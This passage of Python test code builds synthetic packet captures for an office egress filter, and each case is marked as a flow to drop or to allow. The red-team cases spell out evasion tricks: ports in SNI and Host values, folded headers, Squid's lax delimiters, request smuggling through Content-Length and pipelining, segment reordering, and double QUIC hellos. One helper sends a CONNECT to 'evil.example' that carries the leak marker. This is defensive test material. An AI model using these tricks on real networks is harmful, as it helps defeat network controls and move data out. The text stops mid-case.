    t.data(False, b"250-mail.customs.example Hello [10.10.1.10]\r\n250-X-EXPS GSSAPI NTLM\r\n"
                  b"250 8BITMIME\r\n")
    t.data(True, b"X-EXPS NTLM\r\n")
    t.data(False, b"334 NTLM supported\r\n")
    t.data(True, b"TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAAKAGFKAAAADw==\r\n")
    t.data(False, b"235 2.7.0 Authentication successful\r\n")
    t.data(True, b"MAIL FROM:<clerk@customs.example>\r\n")
    t.data(False, b"250 2.1.0 Sender OK\r\n")
    t.data(True, b"RCPT TO:<desk@customs.example>\r\n")
    t.data(False, b"250 2.1.5 Recipient OK\r\n")
    t.data(True, b"DATA\r\n")
    t.data(False, b"354 Start mail input; end with <CRLF>.<CRLF>\r\n")
    t.data(True, b"Subject: manifest\r\n\r\n" + passm(n) + b"\r\n.\r\n")
    t.data(False, b"250 2.6.0 Queued mail for delivery\r\n")
    t.data(True, b"QUIT\r\n")
    t.data(False, b"221 2.0.0 Service closing transmission channel\r\n")
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_hello_unfinished_vk(n):
    """Office: the first 100 bytes of a ClientHello for a social site (the session id
    holds the marker), and never the rest; 3 s later the client closes. Nothing of the
    hello may reach the server: it is held until whole, and dropped after 1 s."""
    cap = Capture()
    t = ETcp(cap, O1, 52068, SOC, 443, isn=52068, rtt_us=20000)
    t.handshake()
    h = hello(n, sni=VK, sid=sid32(leak(n)))
    t.raw(True, "PA", h[:100], seq=t.cseq)
    t.cseq += 100
    t.raw(True, "A", b"", gap=3000000)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_hello_split_late_ok(n):
    """E2M: the ClientHello's two halves 300 ms apart (a sender pacing its flight, or
    the second lost and sent again at once): the first waits for the second, then both
    go; nothing dropped."""
    cap = Capture()

    def send(t):
        h = hello(n)
        t.raw(True, "PA", h[:120], seq=t.cseq)
        t.raw(True, "PA", h[120:], seq=t.cseq + 120, gap=300000)
        t.cseq += len(h)
    tls_flow(cap, S1, 52069, E2M, 52069, n, send, passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_hello_split_rto_ok(n):
    """E2M: the hello's second half comes 1.5 s after the first (lost on the way and
    sent again on the sender's timer). The first, held for it, is dropped after 1 s;
    the client sends it again after the second, and the session goes on."""
    cap = Capture()

    def send(t):
        h = hello(n)
        t.raw(True, "PA", h[:120], seq=t.cseq)
        t.raw(True, "PA", h[120:], seq=t.cseq + 120, gap=1500000)
        t.raw(True, "PA", h[:120], seq=t.cseq, gap=300000)
        t.cseq += len(h)
    tls_flow(cap, S1, 52070, E2M, 52070, n, send, passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_http_head_split_vk(n):
    """Office HTTP: the request line and a header holding the marker in a first
    segment, the Host (m.vk.com) and the empty line in a second: the first segment
    must not go before the Host that forbids it is read."""
    cap = Capture()
    t = ETcp(cap, O1, 52071, SOC, 80, isn=52071, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET /feed HTTP/1.1\r\nX-Note: " + leak(n) + b"\r\n")
    t.data(True, b"Host: m.vk.com\r\nAccept: */*\r\n\r\n")
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 20\r\n\r\n" + b"x" * 20)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_http_head_split_ok(n):
    """Office HTTP: the same head for www.example.org, cut the same way: the first
    segment waits for the second, then both go; nothing dropped."""
    cap = Capture()
    t = ETcp(cap, O1, 52072, SOC, 80, isn=52072, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET /feed HTTP/1.1\r\nX-Note: " + passm(n) + b"\r\n")
    t.data(True, b"Host: www.example.org\r\nAccept: */*\r\n\r\n")
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 20\r\n\r\n" + b"x" * 20)
    t.close()
    return cap, {"pass": [passm(n)]}


# --- red team of the seventeenth session: names a server cuts, proxies a relaxed
# parser reads

@case
def case_sni_port_vk(n):
    """Office TLS whose server_name is "m.vk.com:443". OpenSSL takes any name bytes but
    NUL; nginx's servername callback runs ngx_http_validate_host, which ends the host at
    its first ':', and serves m.vk.com. Our strict reader refuses the ':' (an exception
    the office allows), and the lenient reading and nDPI's "m.vk.com:443" matched no
    list. Now a name's host part is matched (hs_name_host_len). Must drop (social)."""
    cap = Capture()
    tls_flow(cap, O1, 47201, SOC, 4721, n,
             send_whole(hello(n, sni_raw=sni_ext([sni_entry(b"m.vk.com:443")]), sid=sid32(leak(n)))),
             leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_sni_port_fb(n):
    """The same with "www.facebook.com:443" (social by nDPI's host table)."""
    cap = Capture()
    tls_flow(cap, O1, 47202, SOC, 4722, n,
             send_whole(hello(n, sni_raw=sni_ext([sni_entry(b"www.facebook.com:443")]),
                              sid=sid32(leak(n)))), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_sni_port_junk_vk(n):
    """The same with "m.vk.com:x": no port at all after the ':'."""
    cap = Capture()
    tls_flow(cap, O1, 47203, SOC, 4723, n,
             send_whole(hello(n, sni_raw=sni_ext([sni_entry(b"m.vk.com:x")]), sid=sid32(leak(n)))),
             leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_sni_port_ok(n):
    """Must-allow twin: "www.example.org:443" (an exception the office allows; its host
    part has no class)."""
    cap = Capture()
    tls_flow(cap, O1, 47204, SOC, 4724, n,
             send_whole(hello(n, sni_raw=sni_ext([sni_entry(b"www.example.org:443")]))), passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_host_port_junk_vk(n):
    """Office HTTP, "Host: m.vk.com:x": nginx ends the host at the ':' (and Go's mux
    splits host and port without checking the port). hs_authority_host strips a port of
    digits only, and our reading wins over nDPI's: no list matched. Must drop."""
    cap = Capture()
    http_flow(cap, 47205, 4725, 80, http_req(b"m.vk.com:x", leak(n)), b"RESP")
    return cap, {"leak": [leak(n)]}


@case
def case_host_port_twice_fb(n):
    """The same with "Host: www.facebook.com:80:80"."""
    cap = Capture()
    http_flow(cap, 47206, 4726, 80, http_req(b"www.facebook.com:80:80", leak(n)), b"RESP")
    return cap, {"leak": [leak(n)]}


@case
def case_host_obsfold_vk(n):
    """Office HTTP, "Host:" with its value folded onto the next line (obs-fold,
    RFC 9112 5.2): Apache joins the lines and serves m.vk.com; we read an empty Host.
    Must drop."""
    cap = Capture()
    req = (b"GET / HTTP/1.1\r\nHost:\r\n m.vk.com\r\nUser-Agent: Mozilla/5.0\r\nX-Mark: "
           + leak(n) + b"\r\nAccept: */*\r\n\r\n")
    http_flow(cap, 47207, 4727, 80, req, b"RESP")
    return cap, {"leak": [leak(n)]}


@case
def case_host_obsfold_tab_fb(n):
    """The same folded with a tab, www.facebook.com."""
    cap = Capture()
    req = (b"GET / HTTP/1.1\r\nHost:\r\n\twww.facebook.com\r\nUser-Agent: Mozilla/5.0\r\nX-Mark: "
           + leak(n) + b"\r\nAccept: */*\r\n\r\n")
    http_flow(cap, 47208, 4728, 80, req, b"RESP")
    return cap, {"leak": [leak(n)]}


def px_connect_relaxed(cap, n, cport, sep):
    """Office: a CONNECT to port 3128 whose fields are separated by sep, which Squid's
    relaxed parser (on by default) takes as white space; then TLS through the tunnel,
    the marker in the hello's session id and in a record."""
    t = ETcp(cap, O1, cport, SOC, 3128, isn=cport, rtt_us=20000)
    t.handshake()
    t.data(True, b"CONNECT" + sep + b"www.example.org:443" + sep + b"HTTP/1.1\r\nHost: www.example.org:443\r\n\r\n")
    t.data(False, b"HTTP/1.1 200 Connection established\r\n\r\n")
    t.data(True, hello(n, sni="www.example.org", sid=sid32(leak(n))))
    t.data(False, server_hello_flight(n))
    t.data(True, marked_record(leak(n), n))
    t.close()


@case
def case_px_connect_vt(n):
    """Squid's relaxed delimiters: "CONNECT<VT>www.example.org:443<VT>HTTP/1.1". Our
    request line took SP and HT only: no CONNECT was seen, the flow gave up unnamed.
    Must drop (proxy)."""
    cap = Capture()
    px_connect_relaxed(cap, n, 47209, b"\x0b")
    return cap, {"leak": [leak(n)]}


@case
def case_px_connect_ff(n):
    """The same with FF."""
    cap = Capture()
    px_connect_relaxed(cap, n, 47210, b"\x0c")
    return cap, {"leak": [leak(n)]}


@case
def case_px_connect_cr(n):
    """The same with a bare CR."""
    cap = Capture()
    px_connect_relaxed(cap, n, 47211, b"\r")
    return cap, {"leak": [leak(n)]}


@case
def case_px_absform_vt(n):
    """An absolute-form GET to port 3128 with VT between its fields. Must drop (proxy)."""
    cap = Capture()
    http_flow(cap, 47212, 4732, 3128, b"GET\x0bhttp://www.example.org/\x0bHTTP/1.1\r\nHost: www.example.org\r\nX-Mark: "
              + leak(n) + b"\r\n\r\n", b"RESP")
    return cap, {"leak": [leak(n)]}


@case
def case_px_absform_ftp(n):
    """"GET ftp://ftp.example.org/pub/ HTTP/1.1" to port 3128: Squid gateways ftp://
    URLs. Only http:// and https:// targets were taken for absolute-form. Any scheme is
    now. Must drop (proxy)."""
    cap = Capture()
    http_flow(cap, 47213, 4733, 3128, b"GET ftp://ftp.example.org/pub/ HTTP/1.1\r\nHost: ftp.example.org\r\nX-Mark: "
              + leak(n) + b"\r\n\r\n", b"RESP")
    return cap, {"leak": [leak(n)]}


@case
def case_post_pipe_cl_vk(n):
    """Office HTTP: one segment holds a POST for www.example.org with a body of two
    bytes (Content-Length: 2), then a GET for m.vk.com, which nginx serves as the next
    request. The body was read as the next request (it is none), and nothing after it:
    allowed. Now the next request starts past the declared body. Must drop (social)."""
    cap = Capture()
    req = (b"POST /x HTTP/1.1\r\nHost: www.example.org\r\nContent-Length: 2\r\n\r\n{}"
           + b"GET / HTTP/1.1\r\nHost: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n")
    http_flow(cap, 47214, 4734, 80, req, b"RESP")
    return cap, {"leak": [leak(n)]}


@case
def case_post_pipe_chunked_vk(n):
    """The same with a chunked body (a chunk of two bytes, the last chunk, an empty
    trailer)."""
    cap = Capture()
    req = (b"POST /x HTTP/1.1\r\nHost: www.example.org\r\nTransfer-Encoding: chunked\r\n\r\n"
           b"2\r\n{}\r\n0\r\n\r\n"
           + b"GET / HTTP/1.1\r\nHost: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n")
    http_flow(cap, 47215, 4735, 80, req, b"RESP")
    return cap, {"leak": [leak(n)]}


def post_body_flow(cap, n, cport, body, same_segment=False):
    """Office: a text/plain POST (what fetch() and sendBeacon send for a string) to
    www.example.org whose body is `body` and the PASS marker, in its own segment or
    in the head's."""
    body += passm(n)
    head = (b"POST /api/note HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: Mozilla/5.0\r\n"
            b"Content-Type: text/plain;charset=UTF-8\r\nContent-Length: %d\r\n\r\n" % len(body))
    t = ETcp(cap, O1, cport, SOC, 80, isn=cport, rtt_us=20000)
    t.handshake()
    if same_segment:
        t.data(True, head + body)
    else:
        t.data(True, head)
        t.data(True, body)
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    t.close()


@case
def case_post_body_url_ok(n):
    """Must-allow (red team, the seventeenth session: a false block): the body, in its
    own segment, begins "See http://www.example.org/docs": each of the first client
    payloads was read as a request line, and this one as an absolute-form request
    (proxy). A payload inside a declared body is no request: only names are judged."""
    cap = Capture()
    post_body_flow(cap, n, 47216, b"See http://www.example.org/docs for the details ")
    return cap, {"pass": [passm(n)]}


@case
def case_post_body_connect_ok(n):
    """Must-allow: the body begins "CONNECT proxy.example.org:8080 HTTP/1.1"."""
    cap = Capture()
    post_body_flow(cap, n, 47217, b"CONNECT proxy.example.org:8080 HTTP/1.1 is what curl sends ")
    return cap, {"pass": [passm(n)]}


@case
def case_post_body_url_seg_ok(n):
    """Must-allow: post_body_url_ok with the body in the head's segment."""
    cap = Capture()
    post_body_flow(cap, n, 47218, b"See http://www.example.org/docs for the details ", True)
    return cap, {"pass": [passm(n)]}


@case
def case_post_pipe_proxy(n):
    """Office, port 3128: a GET for www.example.org, then in the same segment a CONNECT
    (Squid reads pipelined requests): only the first request of a payload was checked
    for proxy behaviour. Must drop (proxy)."""
    cap = Capture()
    t = ETcp(cap, O1, 47219, SOC, 3128, isn=47219, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n\r\n"
           b"CONNECT www.example.org:443 HTTP/1.1\r\nHost: www.example.org:443\r\n\r\n")
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
           b"HTTP/1.1 200 Connection established\r\n\r\n")
    t.data(True, hello(n, sni="www.example.org", sid=sid32(leak(n))))
    t.data(False, server_hello_flight(n))
    t.data(True, marked_record(leak(n), n))
    t.close()
    return cap, {"leak": [leak(n)]}


def ch_psk_hello(seed, early):
    """A resumption ClientHello for the e2m name: pre_shared_key (last), its modes, and
    with early, early_data (0-RTT)."""
    exts = [sni_ext([sni_entry(E2M_NAME.encode())])] + std_exts(seed) + [alpn_ext()]
    if early:
        exts.append(ext(42, b""))
    exts.append(ext(45, b"\x01\x01"))
    ident = prand(seed + "tkt", 100)
    ids = struct.pack("!H", len(ident)) + ident + struct.pack("!I", 12345)
    binder = b"\x20" + prand(seed + "bind", 32)
    exts.append(ext(41, struct.pack("!H", len(ids)) + ids + struct.pack("!H", len(binder)) + binder))
    return record(22, hs_client_hello(seed, exts=exts))


@case
def case_hrr_early_ok(n):
    """Must-allow (red team, the seventeenth session: a false block): an honest TLS 1.3
    client resumes with 0-RTT (early_data and pre_shared_key, ChangeCipherSpec, an early
    data record); the server rejects the early data with a HelloRetryRequest (RFC 8446
    4.2.10) and skips those records; the client sends its second hello for the same
    name. stream_hello2 skipped ChangeCipherSpec records only and read the early data
    record as the second hello: refused as malformed, whatever the zone."""
    cap = Capture()
    t = ETcp(cap, S1, 47220, E2M, 443, isn=47220, rtt_us=20000)
    t.handshake()
    t.send(True, ch_psk_hello(n, True))
    t.send(True, CCS)
    t.send(True, record(23, prand(n + "early", 300), 0x0303))
    fl = hrr_flight(n)[:-len(CCS)]
    t.raw(False, "PA", fl)
    t.sseq += len(fl)
    t.ack(True)
    t.data(True, ch_psk_hello(n + "2", False))
    t.data(False, server_hello_flight(n))
    t.data(True, tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap, {"pass": [passm(n)]}


# --- red team of the seventeenth session: office protocols with no name to read

@case
def case_bt_udp_tracker(n):
    """Office: a BitTorrent UDP tracker exchange (BEP 15) on UDP 1337: the connect
    request (the protocol id 0x41727101980), its answer, an announce whose BEP 41 path
    option holds the marker. nDPI 4.2 and p2p.sig knew HTTP trackers only: the flow gave
    up unnamed. Must drop (p2p)."""
    cap = Capture()
    ih, pid = prand(n + "ih", 20), b"-qB4620-k3Jx9aQ2Lm0Z"
    tx, cid = 0x1234abcd, 0x1122334455667788
    udp(cap, O1, 47221, SOC, 1337, struct.pack("!QII", 0x41727101980, 0, tx))
    udp(cap, SOC, 1337, O1, 47221, struct.pack("!IIQ", 0, tx, cid))
    path = b"/" + leak(n)
    ann = (struct.pack("!QII", cid, 1, tx + 1) + ih + pid
           + struct.pack("!QQQIIIiH", 0, 0, 0, 2, 0, 0x1a2b3c4d, 200, 47221)
           + b"\x02" + bytes([len(path)]) + path + b"\x00")
    udp(cap, O1, 47221, SOC, 1337, ann)
    return cap, {"leak": [leak(n)]}


@case
def case_emule_kad(n):
    """Office: eMule Kad 2 over UDP 4672: a bootstrap request (E4 01), its answer, a
    hello request (E4 11), its answer, a search request (E4 21) followed by the marker.
    No name is involved (nodes.dat). Must drop (p2p)."""
    cap = Capture()
    kid = prand(n + "kid", 16)
    udp(cap, O1, 47222, SOC, 4672, b"\xe4\x01")
    contacts = b"".join(prand(n + "c%d" % i, 16) + bytes([203, 0, 113, 90 + i])
                        + struct.pack("<HHB", 4672, 4662, 8) for i in range(3))
    udp(cap, SOC, 4672, O1, 47222, b"\xe4\x09" + prand(n + "sid", 16) + struct.pack("<HBH", 4662, 8, 3)
        + contacts)
    udp(cap, O1, 47222, SOC, 4672, b"\xe4\x11" + kid + struct.pack("<HBB", 4662, 8, 0))
    udp(cap, SOC, 4672, O1, 47222, b"\xe4\x19" + prand(n + "sid", 16) + struct.pack("<HBB", 4662, 8, 0))
    udp(cap, O1, 47222, SOC, 4672, b"\xe4\x21\x02" + prand(n + "tgt", 16) + prand(n + "sid", 16) + leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_emule_kad_hello(n):
    """Office: Kad 2 with no bootstrap (the node known from nodes.dat): the hello
    request first, then a search request with the marker. Must drop (p2p)."""
    cap = Capture()
    udp(cap, O1, 47223, SOC, 4672, b"\xe4\x11" + prand(n + "kid", 16) + struct.pack("<HBB", 4662, 8, 0))
    udp(cap, SOC, 4672, O1, 47223, b"\xe4\x19" + prand(n + "sid", 16) + struct.pack("<HBB", 4662, 8, 0))
    udp(cap, O1, 47223, SOC, 4672, b"\xe4\x21\x02" + prand(n + "tgt", 16) + prand(n + "sid", 16) + leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_soulseek(n):
    """Office: the Soulseek server protocol on TCP 2242 (SoulseekQt, Nicotine+): Login
    (code 1), its answer, a FileSearch (code 26) with the marker. Must drop (p2p)."""
    import hashlib

    def sstr(x):
        return struct.pack("<I", len(x)) + x
    cap = Capture()
    t = ETcp(cap, O1, 47224, SOC, 2242, isn=47224, rtt_us=20000)
    t.handshake()
    body = (struct.pack("<I", 1) + sstr(b"alice") + sstr(b"secret") + struct.pack("<I", 160)
            + sstr(hashlib.md5(b"alicesecret").hexdigest().encode()) + struct.pack("<I", 17))
    t.data(True, struct.pack("<I", len(body)) + body)
    rb = (struct.pack("<I", 1) + b"\x01" + sstr(b"Welcome to Soulseek") + struct.pack("<I", 0xcb007114)
          + sstr(hashlib.md5(b"secret").hexdigest().encode()) + b"\x00")
    t.data(False, struct.pack("<I", len(rb)) + rb)
    fs = struct.pack("<I", 26) + struct.pack("<I", 7) + sstr(b"flac " + leak(n))
    t.data(True, struct.pack("<I", len(fs)) + fs)
    t.close()
    return cap, {"leak": [leak(n)]}


def _pb_vint(v):
    o = b""
    while True:
        b = v & 0x7f
        v >>= 7
        if v:
            o += bytes([b | 0x80])
        else:
            return o + bytes([b])


def _pb_len(f, b):
    b = b if isinstance(b, bytes) else b.encode()
    return _pb_vint((f << 3) | 2) + _pb_vint(len(b)) + b


def _pb_int(f, v):
    return _pb_vint(f << 3) + _pb_vint(v)


def _rd_codec(d):
    """RustDesk's length header (hbb_common's BytesCodec): 1 to 3 bytes, the length
    shifted by two, the header's size less one in the low bits."""
    k = len(d)
    if k <= 0x3f:
        return bytes([k << 2]) + d
    if k <= 0x3fff:
        return struct.pack("<H", (k << 2) | 1) + d
    h = (k << 2) | 2
    return struct.pack("<HB", h & 0xffff, h >> 16) + d


@case
def case_rustdesk_udp(n):
    """Office: a self-hosted RustDesk server (hbbs, UDP 21116): RegisterPeer (a
    RendezvousMessage, protobuf) and its answer, then a datagram with the marker. Must
    drop (remote_access)."""
    cap = Capture()
    udp(cap, O1, 47225, SOC, 21116, _pb_len(6, _pb_len(1, "123456789") + _pb_int(2, 0)))
    udp(cap, SOC, 21116, O1, 47225, _pb_len(7, _pb_int(2, 1)))
    udp(cap, O1, 47225, SOC, 21116, _pb_len(8, _pb_len(1, "987654321") + leak(n)))
    return cap, {"leak": [leak(n)]}


@case
def case_rustdesk_tcp(n):
    """Office: RustDesk's TCP rendezvous (hbbs, 21116): the server's KeyExchange, the
    client's, then encrypted frames with the marker. Must drop (remote_access)."""
    cap = Capture()
    t = ETcp(cap, O1, 47226, SOC, 21116, isn=47226, rtt_us=20000)
    t.handshake()
    t.data(False, _rd_codec(_pb_len(25, _pb_len(1, prand(n + "srvpk", 96)))))
    t.data(True, _rd_codec(_pb_len(25, _pb_len(1, prand(n + "eph", 32)) + _pb_len(1, prand(n + "sealed", 48)))))
    t.data(True, _rd_codec(leak(n) + prand(n + "phr", 60)))
    t.data(False, _rd_codec(prand(n + "phresp", 80)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rustdesk_relay(n):
    """Office: RustDesk's relay (hbbr, TCP 21117): the client's RequestRelay (plain
    protobuf), then the encrypted session with the marker. Must drop (remote_access)."""
    cap = Capture()
    t = ETcp(cap, O1, 47227, SOC, 21117, isn=47227, rtt_us=20000)
    t.handshake()
    uuid = "6f1c1c3e-8d3b-4b53-9a55-3c0e1d2a6b7c"
    t.data(True, _rd_codec(_pb_len(18, _pb_len(1, "987654321") + _pb_len(2, uuid)
                                   + _pb_len(4, SOC + ":21117") + _pb_int(5, 1))))
    t.data(False, _rd_codec(prand(n + "signedid", 120)))
    t.data(True, _rd_codec(leak(n) + prand(n + "enc1", 200)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_webtorrent_tracker(n):
    """Office: TLS to tracker.openwebtorrent.com, WebTorrent Desktop's and Brave's
    default tracker (a WebSocket one). Must drop (p2p)."""
    cap = Capture()
    tls_flow(cap, O1, 47228, SOC, 47228, n, send_whole(hello(n, sni="tracker.openwebtorrent.com")),
             leak(n))
    return cap, {"leak": [leak(n)]}


# --- review of the seventeenth session's framing: what it missed

def http_segs_flow(cap, cport, dport, segs):
    """Office: the client's segments segs (each its own), the server's short answer."""
    t = ETcp(cap, O1, cport, SOC, dport, isn=cport, rtt_us=20000)
    t.handshake()
    for seg in segs:
        t.data(True, seg)
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    t.close()


def _vk_req(n):
    return b"GET / HTTP/1.1\r\nHost: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n"


def _px_req(n):
    return b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nX-Mark: " + leak(n) + b"\r\n\r\n"


@case
def case_cl_zeros_vk(n):
    """A POST whose "Content-Length: 00000000000000002" (nginx, llhttp, Apache and Squid
    read 2), its body, then a GET for m.vk.com in the same segment. The framing took
    more than 15 characters for malformed and read the bytes right after the head as the
    next request: none, and the GET went unread. Must drop (social)."""
    cap = Capture()
    http_segs_flow(cap, 47229, 80, [b"POST /x HTTP/1.1\r\nHost: www.example.org\r\n"
                                    b"Content-Length: 00000000000000002\r\n\r\n12" + _vk_req(n)])
    return cap, {"leak": [leak(n)]}


@case
def case_cl_list_px(n):
    """Port 3128: a GET with "Content-Length: 2, 2" (Squid takes a list of one value),
    its two bytes, then a CONNECT in the same segment. Must drop (proxy)."""
    cap = Capture()
    http_segs_flow(cap, 47230, 3128, [b"GET / HTTP/1.1\r\nHost: www.example.org\r\n"
                                      b"Content-Length: 2, 2\r\n\r\n12" + _px_req(n)])
    return cap, {"leak": [leak(n)]}


@case
def case_cl_bad_lines_vk(n):
    """A Content-Length no server reads alike ("2x"): malformed, and every line start
    after the head that begins a request is read (the GET for m.vk.com). Must drop."""
    cap = Capture()
    http_segs_flow(cap, 47231, 80, [b"POST /x HTTP/1.1\r\nHost: www.example.org\r\n"
                                    b"Content-Length: 2x\r\n\r\n12\r\n" + _vk_req(n)])
    return cap, {"leak": [leak(n)]}


@case
def case_split_head_cl_vk(n):
    """A POST head cut inside its Content-Length line ("Content-Le" | "ngth: 10"), then
    the ten body bytes and a GET for m.vk.com in one segment. The head is joined in the
    first-bytes slot, but the body it declares was not carried over: the third payload
    was read from its first byte. Must drop (social)."""
    cap = Capture()
    http_segs_flow(cap, 47232, 80, [b"POST /x HTTP/1.1\r\nHost: www.example.org\r\nContent-Le",
                                    b"ngth: 10\r\n\r\n", b"0123456789" + _vk_req(n)])
    return cap, {"leak": [leak(n)]}


@case
def case_split_head_cl_px(n):
    """The same to port 3128 with a CONNECT after the body. Must drop (proxy)."""
    cap = Capture()
    http_segs_flow(cap, 47233, 3128, [b"GET / HTTP/1.1\r\nHost: www.example.org\r\nContent-Le",
                                      b"ngth: 10\r\n\r\n", b"0123456789" + _px_req(n)])
    return cap, {"leak": [leak(n)]}


def _quic_hello_ks(seed, sni, empty_ks):
    """quic_hs_hello with an empty key_share when empty_ks (RFC 8446 4.2.8: the client
    asks the server for a HelloRetryRequest)."""
    tp = b"\x01\x04\x80\x00\x75\x30" + b"\x04\x04\x80\x10\x00\x00" + b"\x0f\x08" + prand(seed + "scid", 8)
    ks = (struct.pack("!H", 0) if empty_ks
          else struct.pack("!H", 36) + struct.pack("!HH", 29, 32) + prand(seed + "k", 32))
    exts = [sni_ext([sni_entry(sni.encode())]), ext(10, struct.pack("!HH", 2, 29)),
            ext(13, struct.pack("!H", 6) + struct.pack("!3H", 0x0403, 0x0804, 0x0401)),
            ext(43, b"\x02\x03\x04"), ext(51, ks), ext(45, b"\x01\x01"), ext(0x39, tp),
            ext(16, struct.pack("!H", 3) + b"\x02h3")]
    eb = b"".join(exts)
    ciphers = struct.pack("!3H", 0x1301, 0x1302, 0x1303)
    body = (b"\x03\x03" + prand(seed + "r", 32) + b"\x00" + struct.pack("!H", len(ciphers)) + ciphers
            + b"\x01\x00" + struct.pack("!H", len(eb)) + eb)
    return b"\x01" + struct.pack("!I", len(body))[1:] + body


def quic_pipe_hello2(n, cport, one_frame):
    """Office QUIC: the first Initial carries a hello for www.example.org with an empty
    key_share (the server will answer with an HRR) and, right behind it on the CRYPTO
    stream, a second hello for www.facebook.com, which the server reads from what it
    holds once it wrote the HRR; then the client's ACK, 1-RTT both ways."""
    cap = Capture()
    dcid, scid = _q_ids(n)
    srv = prand(n + "srvcid", 8)
    ch1 = _quic_hello_ks(n, "www.example.org", True)
    ch2 = _quic_hello_ks(n + "2", FB, False)
    frames = (quic_crypto_frame(0, ch1 + ch2) if one_frame
              else quic_crypto_frame(0, ch1) + quic_crypto_frame(len(ch1), ch2))
    udp(cap, O1, cport, SOC, 443, quic_initial(dcid, scid, 0, frames), gap=2000)
    udp(cap, SOC, 443, O1, cport, b"\xc0\x00\x00\x00\x01\x08" + scid + b"\x08" + srv
        + prand(n + "srv", 1150), gap=20000)
    udp(cap, O1, cport, SOC, 443, quic_initial(srv, scid, 1, b"\x02\x00\x00\x00\x00", key_dcid=dcid),
        gap=2000)
    udp(cap, O1, cport, SOC, 443, b"\x41" + srv + leak(n) + prand(n + "c2", 300), gap=20000)
    return cap, {"leak": [leak(n)]}


@case
def case_quic_pipe_hello2_fb(n):
    """quic_pipe_hello2 with both hellos in one CRYPTO frame: bytes past the first
    hello were passed over in the feed, and the flow allowed by the first name. Any
    CRYPTO byte past the hello before the verdict now refuses the flow. Must drop."""
    return quic_pipe_hello2(n, 47234, True)


@case
def case_quic_pipe_hello2_frames_fb(n):
    """The same with each hello in its own CRYPTO frame. Must drop."""
    return quic_pipe_hello2(n, 47235, False)


@case
def case_pipe_split_vk(n):
    """(Review of the seventeenth session; closed in the eighteenth: judge_http_more keeps
    a cut head and reads it joined.) A whole GET for www.example.org, then
    in the same segment the first two bytes of a second request ("GE"), whose rest
    ("T / ... Host: m.vk.com") comes in the next segment. Each payload is read for
    requests from its first byte (or past a declared body); the second request starts
    in neither. Closing it needs the client's stream framed across payloads. Must drop
    (social)."""
    cap = Capture()
    http_segs_flow(cap, 47236, 80, [b"GET / HTTP/1.1\r\nHost: www.example.org\r\n\r\nGE",
                                    b"T / HTTP/1.1\r\nHost: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n"])
    return cap, {"leak": [leak(n)]}


def ka_flow(n, cport, reqs=4, host=b"www.example.org"):
    """Office HTTP on port 80: `reqs` requests for host on one connection, each answered
    (the flow is decided by then); returns the ETcp for what comes next."""
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, 80, isn=cport * 7, rtt_us=20000)
    t.handshake()
    for i in range(reqs):
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: %s\r\nUser-Agent: curl/8.5.0\r\n\r\n" % (i, host))
        body = prand("%s-b%d" % (n, i), 200)
        t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    return cap, t


@case
def case_ka_late_split_vk(n):
    """(Eighteenth session) Office HTTP, four requests for www.example.org answered, then
    a fifth for m.vk.com cut inside its Host line ("...Ho" | "st: m.vk.com"): the server
    joins the head; so must we (judge_http_more keeps the cut head). Must drop (social)."""
    cap, t = ka_flow(n, 49031)
    head = b"GET /feed HTTP/1.1\r\nHost: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n"
    cut_at(t, head, [len(b"GET /feed HTTP/1.1\r\nHo")])
    body = leak(n) + prand(n + "vk", 200)
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_ka_late_reorder_vk(n):
    """(Eighteenth session) The same fifth request cut in two, its second piece (Host:
    m.vk.com) sent first, then the first, then the second again: the server queues the
    second and reads the head whole once the first comes. A request head is read in
    order: the piece past the gap is dropped, and read joined when it comes again. Must
    drop (social)."""
    cap, t = ka_flow(n, 49032)
    head = b"GET /feed HTTP/1.1\r\nHost: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n"
    k = len(b"GET /feed HTTP/1.1\r\nHost: m.v")
    base = t.cseq
    t.raw(True, "PA", head[k:], seq=base + k)
    t.raw(True, "PA", head[:k], seq=base)
    t.raw(True, "PA", head[k:], seq=base + k)
    t.cseq = base + len(head)
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_ka_late_csum_vk(n):
    """(Eighteenth session) The fifth request cut inside its Host line; the rest is sent
    first with a wrong TCP checksum saying "st: www.example.org", which the server
